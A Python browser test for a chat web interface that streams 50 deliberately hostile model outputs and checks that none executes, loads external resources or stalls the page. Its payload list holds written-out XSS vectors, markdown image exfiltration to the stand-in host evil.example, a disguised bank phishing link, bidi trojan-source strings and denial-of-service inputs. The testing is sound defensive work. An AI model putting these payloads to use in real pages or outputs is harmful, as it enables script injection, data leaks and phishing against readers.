#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What a model may write against its reader: 50 outputs, streamed to the page and shown again from its store. None executes,
none makes a request, opens a window or moves the page, and none takes long. The stream is made here, in place of the
server's; everything else is moat serve's."""
import json
import os
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from tap import *  # noqa: E402,F403
from serving import *  # noqa: E402,F403
import browser  # noqa: E402

if not os.path.exists(SMOLLM2) or browser.missing():
    skip("hostile outputs", browser.missing() or f"no {SMOLLM2}: scripts/fetch-model --tests brings it")
    done()

OUT = "http://evil.example/"  # a request to it is a failure; so is a call of alert or a change of document.title to PWNED
RUN = "document.title='PWNED';alert(1)"
HOSTILE = [
    f"<script>{RUN}</script>", f"<img src=x onerror=\"{RUN}\">", f"<svg onload=\"{RUN}\"></svg>", f"<svg><script>{RUN}</script></svg>",
    f"<iframe src=\"{OUT}\"></iframe>", f"<iframe srcdoc=\"<script>parent.{RUN}</script>\"></iframe>", f"<object data=\"{OUT}\"></object>", f"<embed src=\"{OUT}\">",
    f"<link rel=stylesheet href=\"{OUT}a.css\">", f"<style>@import '{OUT}b.css'; body{{background:url({OUT}c)}}</style>", f"<meta http-equiv=refresh content=\"0;url={OUT}\">",
    f"<base href=\"{OUT}\">", f"<form action=\"{OUT}\"><button>Go</button></form>", f"<video src=\"{OUT}v\" autoplay></video>", f"<audio src=\"{OUT}a\" autoplay></audio>",
    f"![secret]({OUT}?leak=1)", f"![x][ref]\n\n[ref]: {OUT}ref.png", f"[![x]({OUT}inner.png)]({OUT})", f"![](data:image/svg+xml,<svg onload={RUN}>)", f"<picture><source srcset=\"{OUT}s\"></picture>",
    f"[click](javascript:{RUN})", f"[click](JaVaScRiPt:{RUN})", f"[click](java\nscript:{RUN})", f"[click](&#106;avascript:{RUN})", f"[click](data:text/html,<script>{RUN}</script>)",
    f"[click](vbscript:{RUN})", f"<javascript:{RUN}>", f"<a href=\"javascript:{RUN}\">x</a>", f"[x]({OUT} \"onmouseover={RUN}\")", f"[https://your-bank.example]({OUT})",
    f"```html\n<script>{RUN}</script>\n```", f"```\" onload=\"{RUN}\n x\n```", f"```js\" class=\"x\n</code></pre><script>{RUN}</script>\n```", f"`<img src=x onerror={RUN}>`",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |", f"<details open ontoggle=\"{RUN}\">x</details>", f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">", f"<template><script>{RUN}</script></template>", f"<div style=\"position:fixed;inset:0;background:url({OUT}d)\">over the page</div>",
    "\u202egnp.exe \u2066hidden\u2069 \u202d" * 200, "```c\n/* \u202e } \u2066if (admin)\u2069 \u2066 */ run();\n```", "\u200f\u200e\u061c" * 5000 + "مرحبا", "Z" + "\u0301" * 20000,
    "a" * (1 << 20), "[" * 8000 + "](" * 4000, "*" * 8000 + "_" * 8000, ">" * 8000, "- " * 8000, "```\n" + "x\n" * 100000,
]
assert len(HOSTILE) == 50


def stream(text):
    parts = [text[i:i + 4000] for i in range(0, len(text), 4000)]
    events = [{"choices": [{"index": 0, "delta": {"content": p}}]} for p in parts] + [{"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}]
    return "".join(f"data: {json.dumps(e)}\n\n" for e in events) + "data: [DONE]\n\n"


def show(p, text):
    """Seconds until the answer has ended and the page answers again."""
    page = p.page
    page.unroute("**/v1/chat/completions")
    page.route("**/v1/chat/completions", lambda r: r.fulfill(status=200, content_type="text/event-stream", body=stream(text)))
    page.keyboard.press("Alt+KeyN")
    page.wait_for_selector(".welcome")
    before = time.monotonic()
    p.send("Go")
    p.answered()
    page.evaluate("new Promise((go) => requestAnimationFrame(() => setTimeout(go)))")
    return time.monotonic() - before


def harmless(p):
    """What must hold after each of them, in words what does not."""
    page, found = p.page, []
    if page.title() == "PWNED" or not page.url.startswith(p.base):
        found.append("the page was changed")
    inside = page.locator(".message.assistant").evaluate("""(m) => [...m.querySelectorAll('*')].filter((e) =>
      /^(SCRIPT|STYLE|IFRAME|OBJECT|EMBED|LINK|META|BASE|FORM|VIDEO|AUDIO|IMG|PICTURE|TEMPLATE)$/.test(e.tagName) || e.style.position
      || [...e.attributes].some((a) => a.name.startsWith('on') || a.name === 'style' || /^(java|vb)script:|^data:/i.test(a.value.trim()))).map((e) => e.outerHTML.slice(0, 120))""")
    return found + inside


with Server(SMOLLM2) as server, browser.browser() as b:
    p = browser.Page(b, server.port).open()
    bad, slow, worst = [], [], 0.0
    for i, text in enumerate(HOSTILE):
        spent = show(p, text)
        worst = max(worst, spent)
        bad += [f"{i}: {w}" for w in harmless(p)]
        slow += [f"{i}: {spent:.1f} s: {text[:40]!r}"] if spent > 5 else []
    ok(not bad, "50 hostile outputs: nothing of them is active", "\n".join(bad))
    ok(not slow, f"none holds the page up (the slowest took {worst:.1f} s)", "\n".join(slow))
    p.quiet("50 hostile outputs")
    # again, from the store, after a click on each link
    page = p.page
    for link in page.locator("#side .chat-row a").all()[:50]:
        link.click()
        page.wait_for_selector(".message.assistant .markdown")
        bad += harmless(p)
    ok(not bad and not p.noise and not p.foreign(), "nor when they are shown again", "\n".join(bad + p.noise + p.foreign()))
    show(p, "[https://your-bank.example](http://evil.example/)")
    a = page.locator(".message.assistant a")
    ok("(evil.example)" in a.inner_text() and "noopener" in a.get_attribute("rel"), "a link says where it leads", a.inner_text())
    show(p, HOSTILE[41])
    ok("⟨U+202E⟩" in page.locator("pre").inner_text(), "code shows the marks that would reorder it")
    show(p, HOSTILE[44])
    shown = page.locator(".message.assistant .markdown").inner_text()
    ok("characters more" in shown and 60000 < len(shown) < 70000, "of a line of 1 MB the first part is shown, and a button for the rest", shown[-100:])
    p.close()
done()
